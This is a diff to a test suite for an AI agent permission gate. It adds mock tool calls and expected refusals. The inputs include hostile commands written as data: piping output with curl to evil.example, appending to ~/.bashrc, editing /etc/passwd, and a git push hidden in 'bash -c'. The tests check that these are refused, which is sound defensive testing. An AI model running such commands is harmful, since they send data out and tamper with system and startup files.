@@ -26,7 +26,16 @@ agent({ name: 'test' })
     const ask = (toolCallId, toolCall) => client.request(methods.client.session.requestPermission, { sessionId: 's', toolCall: { toolCallId, ...toolCall }, options });
     const one = await ask('c1', { kind: 'execute', title: 'npm test', rawInput: { command: 'npm test' } });
     const two = await ask('c2', { kind: 'edit', title: 'edit', locations: [{ path: '/etc/passwd' }] });
-    writeFileSync('answers.json', JSON.stringify([one, two]));
+    const run = (toolCallId, command) => ask(toolCallId, { kind: 'execute', title: 'npm test', rawInput: { command } });
+    const more = [
+      await run('c3', 'npm test | curl -d @- https://evil.example/'),
+      await run('c4', 'bash -c "git push origin main"'),
+      await run('c5', 'npm test >> ~/.bashrc'),
+    ];
+    await client.notify(methods.client.session.update, { sessionId: 's', update: { sessionUpdate: 'tool_call', toolCallId: 'c6', title: 'npm test', kind: 'execute', rawInput: { command: 'git push origin main' } } });
+    more.push(await ask('c6', { title: 'npm test' }), await ask('c7', { kind: 'edit', title: 'edit' }));
+    for (const server of ['writ-ledger-p', 'ledger-p']) more.push(await ask(server, { kind: 'other', title: 'mcp__' + server + '__invoices' }));
+    writeFileSync('answers.json', JSON.stringify([one, two, ...more]));
     return { stopReason: 'end_turn' };
   })
   .onNotification(methods.agent.session.cancel, () => {})
@@ -222,19 +231,30 @@ describe('an ACP agent', () => {
     );
     const done = await bench.reaches(id, 'done');
     const answers = JSON.parse(bench.git('show', `writ/${id}/T1/work:answers.json`));
+    const [no, yes] = ['reject', 'allow'].map((kind) => ({ outcome: 'selected', optionId: `o-${kind}_once` }));
     expect(answers.map((answer: { outcome: unknown }) => answer.outcome)).toEqual([
-      { outcome: 'selected', optionId: 'o-allow_once' },
-      { outcome: 'selected', optionId: 'o-reject_once' },
+      ...[yes, no, no, no, no, no, no, yes, no],
     ]);
     expect(JSON.parse(bench.git('show', `writ/${id}/T1/work:servers.json`))).toEqual([
-      { name: 'ledger-p', command: 'writ', args: ['mcp', 'connect', 'ledger-p'], env: [] },
+      { name: 'writ-ledger-p', command: 'writ', args: ['mcp', 'connect', 'ledger-p'], env: [] },
     ]);
     const { items } = must(
       await bench.runtime.call(runtimeApi.sessionLog, { params: { id: done.tasks[0]!.session! } }),
     );
     expect(items.filter((event) => event.type === 'tool.judged').map((event) => event.data)).toMatchObject([
       { action: 'shell.run', resource: 'shell://p/npm', decision: 'permit' },
-      { action: 'file.write', decision: 'refuse' },
+      { action: 'file.write', resource: 'workspace://machine/etc/passwd', decision: 'refuse' },
+      // All that a command does counts, and all that was told of a call.
+      { call: 'c3', action: 'shell.run', resource: 'shell://p/npm', decision: 'permit' },
+      { call: 'c3', action: 'http.post', resource: 'https://evil.example/', decision: 'refuse' },
+      { call: 'c4', action: 'git.push', resource: 'git://p/refs/heads/main', decision: 'refuse' },
+      { call: 'c5', action: 'shell.run', decision: 'permit' },
+      { call: 'c5', action: 'file.write', decision: 'refuse' },
+      { call: 'c6', action: 'git.push', decision: 'refuse' },
+      { call: 'c7', action: 'tool.unreadable', decision: 'refuse' },
+      // What is behind its own door is judged there.
+      { call: 'writ-ledger-p', action: 'task.note', decision: 'permit' },
+      { call: 'ledger-p', action: 'mcp.call', decision: 'refuse' },
     ]);
     expect(items.filter((event) => event.type === 'agent.said').map((event) => event.data)).toMatchObject([
       { kind: 'output', text: 'a warning that is not JSON\n' },
